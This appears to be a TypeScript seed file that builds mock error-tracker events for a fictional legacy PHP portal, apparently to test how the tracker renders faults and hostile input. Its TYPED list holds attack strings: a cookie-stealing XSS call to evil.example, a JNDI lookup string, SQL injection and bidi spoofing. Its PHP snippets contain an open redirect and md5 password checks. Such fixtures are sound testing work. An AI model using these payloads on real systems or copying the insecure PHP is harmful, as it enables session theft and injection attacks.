import { nth, type RawEvent, type SampleTemplate, type Surroundings, vary } from '#mocks/seed/template.ts';

import { at, library, sourceFile } from './source-file.ts';
import { raised, request, sdk } from './surrounding-parts.ts';

const tariff = sourceFile({
  path: '/var/www/portal/modules/tariff/list.php',
  firstLine: 201,
  text: `
function tariff_list($year, $port)
{
    global $db;
    $sql = "SELECT * FROM tarife WHERE jahr = " . (int) $year;
    $result = $db->query($sql);
    while ($row = $result->fetch_assoc()) {
        $rows[$row['code']] = number_format($row['preis'] / $row['menge'], 2);
    }
    return $rows;
}

function tariff_print($rows, $lang)
{
    foreach ($rows as $code => $price) {
        echo '<tr><td>' . $TEXT[$lang][$code] . '</td><td>' . $price . '</td></tr>';
    }
}
`,
});

const login = sourceFile({
  path: '/var/www/portal/inc/login.inc.php',
  firstLine: 33,
  text: `
    $user = mysqli_fetch_object($result);
    if (md5($_POST['passwort']) == $user->passwort) {
        session_start();
        $_SESSION['kunde'] = $user->kundennr;
        header('Location: ' . $_GET['ziel']);
        exit;
    }
`,
});

const index = library('{main}', '/var/www/portal/index.php', 12, { in_app: true });

const FAULTS = [
  {
    source: tariff,
    name: 'tariff_list',
    line: 'number_format',
    type: 'DivisionByZeroError',
    value: 'Division by zero',
  },
  {
    source: tariff,
    name: 'tariff_list',
    line: 'fetch_assoc',
    type: 'Error',
    value: 'Call to a member function fetch_assoc() on bool',
  },
  {
    source: tariff,
    name: 'tariff_list',
    line: 'return $rows',
    type: 'ErrorException',
    value: 'Warning: Undefined variable $rows',
  },
  {
    source: tariff,
    name: 'tariff_print',
    line: '$TEXT[$lang]',
    type: 'ErrorException',
    value: 'Warning: Trying to access array offset on value of type null',
  },
  {
    source: login,
    name: 'require_once',
    line: '$user->passwort',
    type: 'ErrorException',
    value: 'Warning: Attempt to read property "passwort" on null',
  },
  {
    source: login,
    name: 'require_once',
    line: "header('Location",
    type: 'ErrorException',
    value: 'Warning: Cannot modify header information - headers already sent',
  },
] as const;

const base = (around: Surroundings, path: string): RawEvent => ({
  platform: 'php',
  sdk: sdk('sentry.php', '4.14.1'),
  server_name: around.server,
  request: request(around, 'GET', `http://portal.harbor.example${path}`, { query: 'jahr=2009&sprache=de' }),
  contexts: {
    runtime: { name: 'php', version: '8.1.2-1ubuntu2.21' },
    os: { name: 'Linux', version: '5.15.0-143-generic' },
  },
});

const faults: SampleTemplate = {
  name: 'portal-fault',
  project: 'legacy-portal',
  variations: 24,
  build(variation, around) {
    const [fault, page] = vary(variation, FAULTS, [
      '/index.php',
      '/tarife.php',
      '/kunde/login.php',
      '/druck.php',
    ]);
    return {
      ...base(around, page),
      transaction: page,
      level: fault.type === 'ErrorException' ? 'warning' : 'error',
      fingerprint: ['{{ default }}', page, fault.line],
      exception: {
        values: [
          raised(fault.type, fault.value, [
            index,
            at(fault.source, fault.name, fault.line, { vars: { year: 2009, port: '<b>Hamburg</b>' } }),
          ]),
        ],
      },
    };
  },
};

/** What strangers typed into the portal's forms, which ends up in its messages word for word. */
const TYPED = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<img src=x onerror="alert(1)"> in field “Firma”',
  'javascript:alert(document.domain)',
  '[click here](javascript:alert(1)) and <a href="javascript:alert(2)">here</a>',
  'invoice_\u202Efdp.exe\u202C was uploaded',
  'user \u2066admin\u2069 \u200B\u200B\u200Bsigned in',
  'null byte: a\u0000b and bell \u0007 and escape \u001B[31mred\u001B[0m',
  "'; DROP TABLE kunden; --",
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("alert(1)")()}}',
  '"><svg/onload=alert(1)>',
  'Z̷̢̛a̸̡͝l̵̨̕g̶̛̀o̷̊ text̸ c̵o̷m̶e̶s̷',
] as const;

const typed: SampleTemplate = {
  name: 'portal-hostile',
  project: 'legacy-portal',
  variations: 12,
  build(variation, around) {
    const text = nth(TYPED, variation);
    return {
      ...base(around, '/kontakt.php'),
      level: nth(['error', 'warning'], variation),
      fingerprint: [`hostile ${variation}`],
      message: text,
      tags: { field: text.slice(0, 60).replaceAll('\n', ' '), 'form.action': 'javascript:void(0)' },
      extra: { [text]: text, html: `<iframe srcdoc="${text}"></iframe>`, link: 'javascript:alert(3)' },
      user: {
        id: `${around.visitor ?? 0}`,
        username: text,
        email: '"<script>"@evil.example',
        ip_address: '198.51.100.66',
      },
    };
  },
};

const LONG_WORDS = 'Güterverkehrszentrumsverwaltungsgebührenordnungsänderungsantragsformular';

const long: SampleTemplate = {
  name: 'portal-long',
  project: 'legacy-portal',
  variations: 4,
  build(variation, around) {
    const text = nth(
      [
        `${LONG_WORDS} `.repeat(60),
        '没有空格的很长的一行'.repeat(120),
        'x'.repeat(9000),
        `Line one\n${'and another line\n'.repeat(400)}`,
      ],
      variation,
    );
    return {
      ...base(around, `/${'sehr/'.repeat(40)}tief.php`),
      fingerprint: [`long ${variation}`],
      exception: [
        raised(nth([LONG_WORDS.repeat(3), 'Ausnahme', 'E', 'VieleZeilen'], variation), text, [
          index,
          at(tariff, LONG_WORDS.repeat(2), 'global $db', {
            vars: { alles: text, tief: { a: { b: { c: { d: { e: { f: text } } } } } } },
          }),
        ]),
      ],
    };
  },
};

/** Payloads of SDKs that are older than their servers' patience, or simply wrong. */
const ODD: readonly [RawEvent, ...RawEvent[]] = [
  { exception: { values: [null] } },
  { stacktrace: { frames: [] }, message: '' },
  {
    exception: [
      {},
      { type: '', value: '' },
      { type: 'ValueError', mechanism: { type: '', handled: 'maybe' } },
    ],
    level: 'loud',
  },
  {
    exception: [
      {
        type: 'Cycle',
        value: 'I was caused by the next',
        mechanism: { type: 'chained', exception_id: 0, parent_id: 1 },
      },
      {
        type: 'Cycle',
        value: 'I was caused by the one before',
        mechanism: { type: 'chained', exception_id: 1, parent_id: 0 },
      },
    ],
  },
  {
    message: 'Everything has the wrong type',
    user: 'nobody',
    request: 'GET /',
    contexts: [1, 2],
    breadcrumbs: 'none',
    tags: 7,
    extra: [],
    modules: 'x',
  },
  {
    message: 'Breadcrumbs from the future',
    breadcrumbs: [
      { timestamp: '9999-12-31T23:59:59Z', message: 'later', level: 'invalid' },
      { message: 'never' },
    ],
  },
  {
    message: 'Frames that know nothing',
    stacktrace: {
      frames: [{}, { lineno: -4 }, { function: '', filename: '', lineno: 1e12 }, { function: '\u0000' }],
    },
  },
];

const odd: SampleTemplate = {
  name: 'portal-odd',
  project: 'legacy-portal',
  variations: 7,
  build: (variation, around) => ({
    platform: 'php',
    server_name: around.server,
    fingerprint: [`odd ${variation}`],
    ...nth(ODD, variation),
  }),
};

const TABLES = [
  'kunden',
  'tarife',
  'schiffe',
  'rechnung',
  'hafen',
  'ladung',
  'benutzer',
  'sitzung',
  'archiv_2004',
  'archiv_2005',
  'tmp_import',
] as const;

const query: SampleTemplate = {
  name: 'portal-query',
  project: 'legacy-portal',
  variations: 11,
  build(variation, around) {
    const table = nth(TABLES, variation);
    return {
      ...base(around, '/tarife.php'),
      tags: { table },
      fingerprint: ['{{ default }}', table],
      exception: [
        raised(
          'mysqli_sql_exception',
          `Table 'portal.${table}' is marked as crashed and should be repaired`,
          [index, at(tariff, 'tariff_list', '$db->query', { vars: { sql: `SELECT * FROM ${table}` } })],
        ),
      ],
    };
  },
};

export const legacyPortalTemplates: SampleTemplate[] = [faults, typed, long, odd, query];
